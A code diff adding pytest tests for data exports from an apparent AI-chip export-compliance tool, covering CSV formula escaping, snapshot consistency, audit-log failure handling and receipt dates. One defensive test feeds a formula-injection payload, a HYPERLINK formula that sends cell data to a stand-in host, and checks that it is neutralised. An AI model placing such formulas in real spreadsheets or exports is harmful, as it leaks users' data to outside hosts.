@@ -312,3 +312,68 @@ def test_decisions_export_streams_every_decision_with_its_pack_versions(
     assert [r["code"] for r in got] == ["held-inquiry", "allowed", "held-inquiry", "allowed"]
     assert json.loads(got[0]["pack_versions"]) == {"ai-diffusion-2025": "2025.01.15-r1"}
     assert got[0]["decided_at"] == "2026-02-03T09:00:00+00:00" and got[1]["allowed"] == "true"
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(
+        fleet: str, packs: PackRegistry, tmp_path: Path) -> None:
+    from agent import parties
+
+    evil = '=HYPERLINK("http://x.example/?"&A1,"open")'
+    with session_scope(fleet) as s:
+        parties.add_party(s, evil, "AE")
+        caps.add_shipment(s, packs, day=date(2026, 4, 1), consignee=evil, destination="AE", chip_name="h100-sxm",
+                          count=1, via="licence", reference="@SUM(1+1)", actor="test")
+    m = _export(fleet, packs, "shipments", tmp_path / "out", ["csv", "json"])
+    header, rows = _csv(tmp_path / "out" / next(n for n in _files(m, ".csv") if n.endswith("_shipments.csv")))
+    row = dict(zip(header, next(r for r in rows if r[header.index("via")] == "licence"), strict=True))
+    assert row["consignee"] == "'" + evil and row["reference"] == "'@SUM(1+1)"
+    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r)
+    doc = json.loads((tmp_path / "out" / _files(m, ".json")[0]).read_text())
+    assert any(r["consignee"] == evil for r in doc["tables"]["shipments"]["rows"])  # JSON keeps the value
+    # Numbers stay numbers: only text is guarded.
+    assert csv_cell(-5) == -5 and csv_cell(-1.5) == "-1.5"
+
+
+def test_an_export_is_one_snapshot_even_while_the_store_is_written(
+        store: str, packs: PackRegistry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from agent.store.tables.cases import AdmissionDecision
+
+    with session_scope(store) as s:
+        seed_cases(s)
+    write_json = exports.write_json
+
+    def decision_committed_meanwhile(*a: Any, **k: Any) -> Any:
+        with session_scope(store) as o:  # e.g. the admission webhook, between the CSV and the JSON
+            o.add(AdmissionDecision(uid="late", decided_at=datetime(2026, 3, 9, tzinfo=UTC), namespace="ns",
+                                    kind="Job", name="late", operation="CREATE", job_ref="c/ns/Job/late",
+                                    customer_name="Gulf AI", model_key="m", code="allowed", allowed=True,
+                                    chips=1.0, message="", pack_versions="{}"))
+        return write_json(*a, **k)
+
+    monkeypatch.setattr(exports, "write_json", decision_committed_meanwhile)
+    m = _export(store, packs, "decisions", tmp_path / "out", ["csv", "json"])
+    doc = json.loads((tmp_path / "out" / _files(m, ".json")[0]).read_text())
+    assert [f["rows"] for f in m["files"]] == [4, 4]
+    assert doc["summary"]["decisions"] == len(doc["tables"]["decisions"]["rows"]) == 4
+
+
+def test_an_export_whose_audit_entry_cannot_be_written_leaves_no_files(
+        fleet: str, packs: PackRegistry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    def locked(*_a: Any, **_k: Any) -> Any:
+        raise RuntimeError("database is locked")
+
+    monkeypatch.setattr(audit, "record", locked)
+    with pytest.raises(RuntimeError, match="locked"):
+        _export(fleet, packs, "shipments", tmp_path / "out", ["csv", "json"])
+    assert list((tmp_path / "out").iterdir()) == []  # no signed manifest for an export the trail never saw
+
+
+def test_installed_base_detail_keeps_the_receipt_date_of_a_holding_that_moved(
+        fleet: str, packs: PackRegistry, tmp_path: Path) -> None:
+    # § 748.15(f)(1)(ii)(B): the end-user report gives the dates eligible items were received.
+    m = _export(fleet, packs, "installed-base", tmp_path / "out", ["json"])
+    doc = json.loads((tmp_path / "out" / _files(m, ".json")[0]).read_text())
+    detail = {r["external_id"]: r for r in doc["tables"]["holding_detail"]["rows"]}
+    assert detail["h-move-1"]["installed_since"].startswith("2026-03-02")  # at its current site since the move
+    assert detail["h-move-1"]["received"].startswith("2026-01-05")  # received before it moved
+    assert detail["h-us-1"]["received"].startswith("2026-01-05")
